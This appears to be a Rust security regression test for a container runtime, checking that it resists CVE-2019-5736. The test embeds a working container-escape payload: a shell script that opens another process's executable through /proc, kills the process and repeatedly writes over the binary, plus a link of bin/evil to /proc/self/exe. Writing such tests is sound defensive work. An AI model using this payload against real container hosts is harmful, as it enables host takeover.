//! The runtime's binary.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;

use super::host::hash;
use crate::support::run::Run;
use crate::support::wait::until;
use crate::support::{Bundle, peer};

/// Waits for a process whose program is not the container's, opens that program, ends the process, and writes. As long as it
/// runs it cannot be opened for writing ("text file busy"), so this is tried again and again.
const OVERWRITE: &str = "
    touch /ready
    while :; do for process in /proc/[0-9]*; do
        if [ -e $process/exe ] && ! [ $process/exe -ef /bin/busybox ] && { exec 7< $process/exe; }; then
            echo opened
            kill -9 ${process#/proc/}
            i=0; while [ $i -lt 20000 ] && ! echo overwritten > /proc/self/fd/7; do i=$((i + 1)); done 2> /dev/null
            echo tried; exit
        fi
    done; done 2> /dev/null";

/// A copy of the runtime, in whose place an attack may write.
fn expendable(bundle: &Bundle) -> PathBuf {
    let copy = bundle.path("runtime");
    fs::copy(peer::program(), &copy).unwrap();
    fs::set_permissions(&copy, fs::Permissions::from_mode(0o777)).unwrap();
    copy
}

fn attack(bundle: Bundle) {
    let program = expendable(&bundle);
    let before = hash(&program);
    // What is executed is whoever executes it: the runtime, once more, now in the container. Reading a FIFO it waits.
    let bundle = bundle.link("bin/evil", "/proc/self/exe");
    Run::new("mkfifo").args(["-m", "666"]).arg(bundle.rootfs().join("fifo")).output().ok();
    let bundle = bundle.through(["sh".to_owned(), "-c".to_owned(), "P=$1; shift 2; exec \"$P\" \"$@\"".to_owned()]);
    let bundle = bundle.through(["_".to_owned(), program.to_str().unwrap().to_owned()]);
    let container = bundle.start();
    until("the attack", || container.rootfs().join("ready").exists().then_some(()));
    until("the binary was opened", || {
        let exec = Run::new(&program).arg("--root").arg(container.state_root()).args(["exec", &container.id]);
        exec.args(["/bin/evil", "exec", "--process", "/fifo", "x"]).output();
        container.stdout().contains("opened").then_some(())
    });
    container.wait();
    assert_eq!(container.stdout(), "opened\ntried\n");
    assert_eq!(hash(&program), before, "the runtime's binary was overwritten");
}

/// runc before 1.0-rc6: a container executed `/proc/self/exe` on `exec`, opened the runtime's binary through it, and wrote to
/// it when it had ended.
#[test]
fn cve_2019_5736_the_binary_is_overwritten() {
    attack(Bundle::sh(OVERWRITE));
}

/// The same where the binary can only be sealed as a copy in memory, and belongs to the container's root.
#[test]
fn cve_2019_5736_the_binary_of_a_user_is_overwritten() {
    let bundle = Bundle::sh(OVERWRITE);
    // So that it is given to the user with everything else.
    expendable(&bundle);
    attack(bundle.without_privileges());
}
